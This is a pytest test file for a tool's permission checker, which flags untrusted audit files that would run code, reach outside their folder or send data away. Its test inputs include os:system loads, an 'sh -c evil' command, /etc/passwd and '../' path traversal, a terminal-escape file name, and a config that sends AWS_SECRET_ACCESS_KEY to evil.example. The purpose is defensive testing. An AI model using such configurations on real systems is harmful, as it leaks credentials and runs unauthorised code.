"""Audit files from strangers: nothing is run, sent or read from elsewhere that nobody allowed."""

from __future__ import annotations

import os
import stat
import sys
from importlib.machinery import EXTENSION_SUFFIXES
from pathlib import Path

import pytest

from isonomia.audits.audit_file.permissions import (
    NEEDS,
    check_allowed,
    is_inside,
    needs_of,
    remember,
    with_remembered,
)
from isonomia.audits.audit_file.planner import plan_audit
from isonomia.audits.audit_file.reader import KINDS, TOP, AuditFile, read_audit_file, sections
from isonomia.audits.protocol import Permissions
from isonomia.errors import NotAllowedError, SpecError, UsageError
from isonomia.watch.file import TOP as WATCH_TOP
from isonomia.watch.file import sections as watch_sections
from raising import raises

PEOPLE = '[population]\nsample = "people.csv"\n'
PROPERTY = "[[property]]\ncheck = \"P[sex == 'F'] >= 0.1\"\n"
BOTH = ("records", "cache")


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(sys, "pycache_prefix", sys.pycache_prefix)
    here = tmp_path / "here"
    here.mkdir()
    (here / "people.csv").write_text("sex,age\nF,1\nM,2\n")
    (tmp_path / "secret.csv").write_text("sex,age\nF,1\n")
    monkeypatch.chdir(here)
    return here


def _file(folder: Path, text: str) -> AuditFile:
    (folder / "audit.toml").write_text(text)
    return read_audit_file(folder / "audit.toml")


def _wants(folder: Path, text: str) -> list[tuple[str, int, str]]:
    return [(need.permission, need.line, str(need)) for need in needs_of(_file(folder, text), writes=BOTH)]


@pytest.mark.parametrize(
    ("text", "permission", "line", "told"),
    [
        ('[model]\nload = "os:system"\n' + PEOPLE, "code", 2, 'load = "os:system" runs code: the Python module os'),
        ('[population]\n\ngenerator = "m:f"\n', "code", 3, 'generator = "m:f" runs code'),
        ('[population]\ncensus = "m.n:f"\n', "code", 2, 'census = "m.n:f" runs code: the Python module m.n'),
        ('[populations.a]\nsample = "m:f"\n', "code", 2, 'sample = "m:f" runs code'),
        ('[populations.a]\ndomain = "m:d"\n', "code", 2, 'domain = "m:d" runs code'),
        ('[model]\nload = "HTTPS://e.org:8443/x"\n' + PEOPLE, "code", 2, "sends the rows to e.org:8443"),
        ('[model]\nload = "command.toml"\n' + PEOPLE, "code", 2, "runs sh -c evil"),
        ('[model]\nload = "score.sh"\n' + PEOPLE, "code", 2, "runs the program"),
        ('[model]\nload = "broken.toml"\n' + PEOPLE, "code", 2, "runs a program or a service"),
        ('[population]\nsample = "../secret.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "../*.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "*/../../secret.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "**/**/x.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "link.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "folder"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nsample = "folder/*.csv"\n', "outside", 2, "reads outside of its folder"),
        ('[population]\nprogram = "/etc/passwd"\n', "outside", 2, "reads outside of its folder: /etc/passwd"),
        ('records = "../.."\n' + PEOPLE, "outside", 1, "writes outside of its folder"),
        ('cache = "../answers.sqlite"\n' + PEOPLE, "outside", 1, "writes outside of its folder"),
        ('[interventions]\nx = "../x.toml"\n' + PEOPLE, "outside", 2, 'x = "../x.toml" reads outside'),
        (PEOPLE + '[[property]]\nnomos = "/etc/x.nom"\n', "outside", 4, 'nomos = "/etc/x.nom" reads outside'),
    ],
)
def test_what_a_file_wants_is_said_with_its_line(folder, text, permission, line, told):
    (folder / "command.toml").write_text('[model]\ncommand = ["sh", "-c", "evil"]\n')
    (folder / "broken.toml").write_text("[model\n")
    (folder / "score.sh").write_text("#!/bin/sh\n")
    (folder / "score.sh").chmod(0o755)
    (folder / "link.csv").symlink_to(folder.parent / "secret.csv")
    (folder / "folder").mkdir()
    (folder / "folder" / "a.csv").symlink_to(folder.parent / "secret.csv")
    (found,) = _wants(folder, text + PROPERTY)
    assert found[:2] == (permission, line)
    assert told in found[2]
    with pytest.raises(NotAllowedError) as caught:
        check_allowed(read_audit_file("audit.toml"), Permissions(), "say {flags}", writes=BOTH)
    assert caught.value.wants == (found[2],)
    assert f"say --allow-{permission}" in str(caught.value)
    allowed = Permissions(allow_code=permission == "code", allow_outside=permission == "outside")
    check_allowed(read_audit_file("audit.toml"), allowed, "", writes=BOTH)


def test_every_kind_of_key_says_which_permission_it_needs():
    assert set(NEEDS) == set(KINDS)
    for schema in (sections(), watch_sections(), {"audit": TOP, "watch": WATCH_TOP}):
        assert all(key.kind in NEEDS for keys in schema.values() for key in keys.values())


@pytest.mark.parametrize("source", ["/", "..", "/**/x.csv", "/*/*/*", "../**", "*/../../**", "x/../../*"])
def test_the_disk_is_not_gone_through_to_see_that_a_path_is_outside(folder, monkeypatch, source):
    def never(*_: object, **__: object) -> None:
        raise AssertionError("looked at")

    monkeypatch.setattr(Path, "rglob", never)
    monkeypatch.setattr("isonomia.audits.audit_file.permissions.glob", never)
    assert not is_inside(folder, source)


def test_the_usual_folder_for_records_may_be_a_link_as_well(folder):
    assert _wants(folder, PEOPLE + PROPERTY) == []
    (folder / ".isonomia").symlink_to(folder.parent)
    (found,) = _wants(folder, PEOPLE + PROPERTY)
    assert 'records = ".isonomia" writes outside of its folder' in found[2]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes with a name on this system")
def test_nobody_waits_for_a_pipe(folder):
    for name in ("m.onnx", "x.nom", "s.toml"):
        os.mkfifo(folder / name)
    text = f'[model]\nload = "m.onnx"\n[models.b]\nload = "s.toml"\n{PEOPLE}[[property]]\nnomos = "x.nom"\n'
    assert _wants(folder, text) == []
    with raises(SpecError, "audit.toml", "m.onnx", at="load"):
        plan_audit(read_audit_file("audit.toml"), 1, Permissions())


def test_a_token_is_named_with_the_host_that_would_get_it(folder):
    options = '[model.options]\ntoken_env = "AWS_SECRET_ACCESS_KEY"\ntoken_header = "X-Key"\n'
    found = _wants(folder, f'[model]\nload = "http://evil.example:81/x"\n{options}{PEOPLE}{PROPERTY}')
    told = "sends the environment variable of that name to evil.example:81, in the header X-Key"
    assert ("code", 4, f'line 4: token_env = "AWS_SECRET_ACCESS_KEY" {told}') in found
    (folder / "s.toml").write_text('[model]\nurl = "https://evil.example/"\ntoken_env = "AWS_SECRET_ACCESS_KEY"\n')
    found = _wants(folder, f'[model]\nload = "s.toml"\n{PEOPLE}{PROPERTY}')
    assert any("AWS_SECRET_ACCESS_KEY" in line and "evil.example, in the header Auth" in line for _, _, line in found)


def test_a_file_that_stays_at_home_wants_nothing(folder):
    (folder / "m.onnx").write_bytes(b"\x08\x08\x12\x00")
    (folder / "p.fr").write_text("")
    text = f'records = "kept"\ncache = "kept/answers"\n[model]\nload = "m.onnx"\n{PEOPLE}'
    assert _wants(folder, text + '[populations.p]\nprogram = "p.fr"\n' + PROPERTY) == []
    assert _wants(folder, '[population]\nsample = "../here/people.csv"\n' + PROPERTY) == []


def test_a_model_of_the_current_folder_is_outside_where_the_file_is_elsewhere(folder, monkeypatch):
    (folder.parent / "m.onnx").write_bytes(b"\x08\x08\x12\x00")
    monkeypatch.chdir(folder.parent)
    assert [each[0] for each in _wants(folder, f'[model]\nload = "m.onnx"\n{PEOPLE}{PROPERTY}')] == ["outside"]


def test_a_name_cannot_move_the_cursor_of_the_refusal(folder):
    found = _wants(folder, '[population]\nsample = "../\\u001b[2J\\u202eevil\\n.csv"\n' + PROPERTY)
    assert not {"\x1b", "\u202e", "\n"} & set(found[0][2])


@pytest.mark.parametrize("name", ["sample = 'a\\u0000b.csv'", "sample = 'x" + "y" * 5000 + "'", "program = ''"])
def test_names_that_no_file_has_are_no_crash(folder, name):
    text = f"[population]\n{name}\n".replace("'", '"')
    check_allowed(_file(folder, text + PROPERTY), Permissions(allow_outside=True), "")


# ------------------------------------------------------------------------------------------------------- remembered


CODE = f'[model]\nload = "scoring:model"\n{PEOPLE}{PROPERTY}'


def _remembered(file: AuditFile) -> bool:
    return with_remembered(file, Permissions()).allow_code


def _scoring(folder: Path) -> None:
    (folder / "scoring.py").write_text("import sys, helper\nsys.path.append('lib')\nimport down\nmodel = print\n")
    (folder / "lib").mkdir()
    (folder / "lib" / "down.py").write_text("x = 2\n")
    (folder / "helper.py").write_text("x = 1\n")
    (folder / "package").mkdir()
    (folder / "package" / "__init__.py").write_text("")


def test_what_is_remembered_is_for_the_owner_only(folder):
    _scoring(folder)
    file = _file(folder, CODE)
    assert not _remembered(file)
    place = remember(file, Permissions(allow_code=True))
    assert place == folder.parent / "state" / "isonomia" / "allowed.json"
    assert stat.S_IMODE(place.stat().st_mode) == 0o600
    assert _remembered(file)
    assert with_remembered(file, Permissions(trust_pickle=True)) == Permissions(trust_pickle=True, allow_code=True)


@pytest.mark.parametrize(
    "what",
    [
        *("audit", "scoring", "helper", "shadow", "folder", "nomos", "import", "service", "compiled", "beside"),
        *("library", "standard library", "library as a folder", "further down"),
    ],
)
def test_any_change_is_asked_about_again(folder, monkeypatch, what):
    _scoring(folder)
    (folder / "x.nom").write_text("import offers;\n")
    (folder / "offers.py").write_text("")
    (folder / "run.py").write_text("import beside\n")
    (folder / "beside.py").write_text("")
    (folder / "service.toml").write_text('[model]\ncommand = ["python", "run.py"]\n')
    text = CODE + '[[property]]\nnomos = "x.nom"\n[models.other]\nload = "service.toml"\n'
    file = _file(folder, text)
    remember(file, Permissions(allow_code=True))
    assert _remembered(file)
    match what:
        case "audit":
            file = _file(folder, text.replace("0.1", "0.2"))
        case "scoring" | "helper":
            (folder / f"{what}.py").write_text("import os\nmodel = os.system\n")
        case "shadow":
            (folder.parent / "scoring.py").write_text("model = 1\n")
            monkeypatch.chdir(folder.parent)
        case "folder":
            other = folder.parent / "other"
            folder.rename(other)
            file = read_audit_file(other / "audit.toml")
        case "nomos":
            (folder / "x.nom").write_text("import offers; \n")
        case "import":
            (folder / "offers.py").write_text("import os\n")
        case "compiled":
            (folder / f"scoring{EXTENSION_SUFFIXES[0]}").write_bytes(b"goes before scoring.py")
        case "beside":
            (folder / "beside.py").write_text("import os\n")
        case "library":  # which nobody beside imports, but which is imported here
            (folder / "pandas.py").write_text("import os\n")
        case "standard library":
            (folder / "uuid.py").write_text("import os\n")
        case "library as a folder":
            (folder / "altair").mkdir()
            (folder / "altair" / "__init__.py").write_text("import os\n")
        case "further down":
            (folder / "lib" / "down.py").write_text("import os\n")
        case "service":
            (folder / "run.py").write_text("import os\n")
    assert not _remembered(file)


@pytest.mark.parametrize("name", ["uuid", "pandas"])
def test_a_module_of_the_current_folder_that_replaces_an_installed_one_is_asked_about(folder, monkeypatch, name):
    _scoring(folder)
    monkeypatch.chdir(folder.parent)
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True))
    (folder.parent / "unrelated.py").write_text("import os\n")
    assert _remembered(file)
    (folder.parent / f"{name}.py").write_text("import os\n")
    assert not _remembered(file)


def test_what_python_compiled_in_the_folder_is_not_run_by_a_permission_that_was_remembered(folder, monkeypatch):
    monkeypatch.setattr(sys, "pycache_prefix", None)
    _scoring(folder)
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True))
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "scoring.cpython-311.pyc").write_bytes(b"anything")
    assert _remembered(file)
    assert sys.pycache_prefix == str(folder.parent / "state" / "isonomia" / "pycache")


def test_only_what_was_allowed_is_remembered_and_a_new_version_takes_the_place_of_the_old(folder):
    outside = _file(folder, f'[population]\nsample = "../secret.csv"\n{PROPERTY}')
    remember(outside, Permissions(allow_outside=True))
    assert with_remembered(outside, Permissions()) == Permissions(allow_outside=True)
    place = remember(_file(folder, CODE), Permissions(allow_code=True))
    assert place.read_text().count(str(folder)) == 1
    assert with_remembered(outside, Permissions()) == Permissions()


@pytest.mark.parametrize("content", ["", "[]", "[" * 5000, '{"x": 1}', "\xff"])
def test_a_damaged_memory_allows_nothing(folder, content):
    _scoring(folder)
    file = _file(folder, CODE)
    place = remember(file, Permissions(allow_code=True))
    place.write_text(content)
    assert not _remembered(file)
    remember(file, Permissions(allow_code=True))
    assert _remembered(file)


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="no such rights on this system")
def test_a_memory_that_others_can_write_allows_nothing(folder):
    _scoring(folder)
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True)).chmod(0o666)
    assert not _remembered(file)


# -------------------------------------------------------------------------------------------- what is never printed


SECRET = "root:x:0:0:the secret of the house"


@pytest.mark.parametrize(
    "text",
    [
        '[population]\nprogram = "../secret.txt"\n' + PROPERTY,
        f'[interventions]\nx = "../secret.txt"\n{PEOPLE}{PROPERTY}',
        PEOPLE + '[[property]]\nnomos = "../secret.nom"\n',
        f'[model]\nload = "../secret.toml"\n{PEOPLE}{PROPERTY}',
    ],
)
def test_an_error_never_prints_a_file_that_is_not_the_audits_own(folder, text):
    for ending in ("txt", "nom"):
        (folder.parent / f"secret.{ending}").write_text(SECRET)
    (folder.parent / "secret.toml").write_text(f'[model]\nurl = "x"\nkey = "{SECRET}"\n')
    with pytest.raises(SpecError) as caught:
        plan_audit(_file(folder, text), 1, Permissions(allow_code=True))
    assert "secret of the house" not in str(caught.value)
    assert caught.value.place is not None  # the line of the audit file that names it


def test_an_error_in_a_file_of_the_audit_shows_its_line(folder):
    (folder / "own.nom").write_text("input x1;\nthis is wrong\n")
    with raises(SpecError, "this", "input", at="nomos"):
        plan_audit(_file(folder, PEOPLE + '[[property]]\nnomos = "own.nom"\n'), 1, Permissions())


def test_a_home_that_cannot_be_entered_has_nothing_remembered(folder, monkeypatch):
    def refuse(path, *_, **__):
        raise PermissionError(13, "Permission denied", str(path))

    (folder / "audit.toml").write_text('[population]\nsample = "people.csv"\n[[property]]\ncheck = "P[x] >= 0.5"\n')
    audit = read_audit_file(folder / "audit.toml")
    monkeypatch.setattr(Path, "stat", refuse)
    monkeypatch.setattr(Path, "exists", refuse)
    assert with_remembered(audit, Permissions()) == Permissions()


@pytest.mark.parametrize(
    "name", ["model.joblib", "script.txt", "lib/deep/er/computed.py", "data/weights.json", "new.py"]
)
def test_any_change_of_a_file_below_the_folder_is_asked_about_again(folder, name):
    """Code can execute or load all of them: exec(open(...)), runpy, joblib, names that are computed."""
    _scoring(folder)
    (folder / "lib" / "deep" / "er").mkdir(parents=True)
    (folder / "data").mkdir()
    path = folder / name
    if name != "new.py":
        path.write_text("before")
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True))
    assert _remembered(file)
    path.write_text("after.")
    assert not _remembered(file)


def test_tables_of_people_and_records_may_change_without_a_question(folder):
    _scoring(folder)
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True))
    (folder / "people.csv").write_text("x\n7\n")
    (folder / ".isonomia").mkdir()
    (folder / ".isonomia" / "records.sqlite").write_text("")
    assert _remembered(file)


def test_more_files_than_are_gone_through_are_never_remembered(folder, monkeypatch):
    _scoring(folder)
    file = _file(folder, CODE)
    remember(file, Permissions(allow_code=True))
    monkeypatch.setattr("isonomia.audits.audit_file.permissions._MOST_FILES", 3)
    assert not _remembered(file)
    with raises(UsageError, "--remember", 3):
        remember(file, Permissions(allow_code=True))
